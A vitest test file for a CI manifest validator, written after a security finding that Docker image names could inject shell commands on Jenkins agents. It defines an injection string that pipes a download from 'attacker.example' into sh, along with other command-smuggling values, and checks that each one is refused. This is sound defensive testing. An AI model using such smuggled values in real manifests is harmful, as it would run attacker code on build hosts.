/**
 * Finding 1 of the security review: an image name ran shell commands on the Jenkins agent host
 * (the Docker Pipeline plugin passes it to `sh "docker inspect -f . ${id}"`). Every image field
 * now follows the OCI distribution reference grammar and every runner label its own grammar
 * (src/manifest/grammar.ts), refused at the value's position with what to write instead.
 */
import { describe, expect, it } from 'vitest';
import { checkImageReference, checkRunnerLabel } from '../../src/manifest/grammar.js';
import { expectAccepted, expectRefusedAt, manifest, withTrain } from './field-refusal.js';

const ATTACK = 'python:3.11-slim;curl -s https://attacker.example/x|sh;';
const q = JSON.stringify;

describe('finding 1: image references and runner labels have a grammar', () => {
  it('finding 1: an image with shell metacharacters is refused in defaults.image, train.image and predict.image', () => {
    expectRefusedAt(manifest('defaults:', `  image: ${q(ATTACK)}`), 'defaults.image', q(ATTACK), /image reference may not contain ";"/);
    expectRefusedAt(withTrain(`  image: ${q(ATTACK)}`), 'train.image', q(ATTACK), /image reference/);
    const predict = manifest('pipelines:', '  predict:', '    schedule: "0 6 * * *"', '    run: python predict.py', `    image: ${q(ATTACK)}`);
    const printed = expectRefusedAt(predict, 'pipelines.predict.image', q(ATTACK), /image reference/);
    expect(printed).toMatch(/e\.g\. python:3\.11-slim/); // how to fix
  });

  it('every other image field is refused the same way (checks, data tests, evaluate, deploy)', () => {
    for (const hostile of ['python:3.11 && id', 'python:3.11\nid', "python'3", 'python:3.11`id`', 'Python:3.11']) {
      expectRefusedAt(manifest('checks:', '  - name: lint', '    run: ruff .', `    image: ${q(hostile)}`), 'checks.0.image', q(hostile), /image reference/);
      expectRefusedAt(manifest('data:', '  tests:', '    - name: schema', '      run: pytest', `      image: ${q(hostile)}`), 'data.tests.0.image', q(hostile), /image reference/);
      expectRefusedAt(manifest('deploy:', `  image: ${q(hostile)}`, '  staging:', '    run: ./deploy.sh'), 'deploy.image', q(hostile), /image reference/);
      expectRefusedAt(manifest('evaluate:', '  gates: [{ metric: mae, max: 1 }]', `  image: ${q(hostile)}`), 'evaluate.image', q(hostile), /image reference/);
    }
  });

  it('real references pass: tags, digests, registries with a port, IPv6 hosts', () => {
    const digest = `sha256:${'ab'.repeat(32)}`;
    for (const image of ['python:3.11-slim', 'ubuntu', 'ghcr.io/acme/train:1.4', `ghcr.io/acme/train@${digest}`, `registry.example.com:5000/team/a__b/c-d:v1.2_x@${digest}`, 'localhost:5000/model', '[::1]:5000/img:tag']) {
      expect(checkImageReference(image), image).toBeUndefined();
      expectAccepted(withTrain(`  image: ${q(image)}`));
    }
    for (const image of ['python:', ':tag', 'a//b', 'a/B', `img@sha256:${'a'.repeat(31)}`, 'img:-tag', 'x'.repeat(256)]) expect(checkImageReference(image), image).toBeDefined();
  });

  it('a runner label that Jenkins would read as an expression, or Azure as a macro, is refused at its position', () => {
    for (const label of ['self-hosted && !trusted', 'linux || windows', "gpu'", 'a\nb', 'x$(SECRET)', '-flag']) {
      expectRefusedAt(manifest('defaults:', `  runner: ${q(label)}`), 'defaults.runner', q(label), /runner label/);
      expectRefusedAt(withTrain('  runner:', '    - self-hosted', `    - ${q(label)}`), 'train.runner.1', q(label), /runner label/);
    }
    for (const label of ['ubuntu-latest', 'windows-2022', 'self-hosted', 'gpu', 'ubuntu-22.04', 'Linux_X64']) expect(checkRunnerLabel(label), label).toBeUndefined();
  });
});
